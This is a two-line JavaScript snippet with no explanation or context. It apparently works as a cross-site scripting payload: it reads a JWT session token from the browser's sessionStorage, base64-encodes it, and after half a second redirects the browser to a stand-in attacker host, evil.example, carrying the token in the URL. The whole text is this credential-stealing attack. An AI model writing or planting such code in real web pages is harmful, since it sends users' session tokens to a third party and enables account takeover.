const secret = sessionStorage.getItem('jwt');
setTimeout(() => { location.assign(`https://evil.example/land?x=${btoa(secret)}`); }, 500);
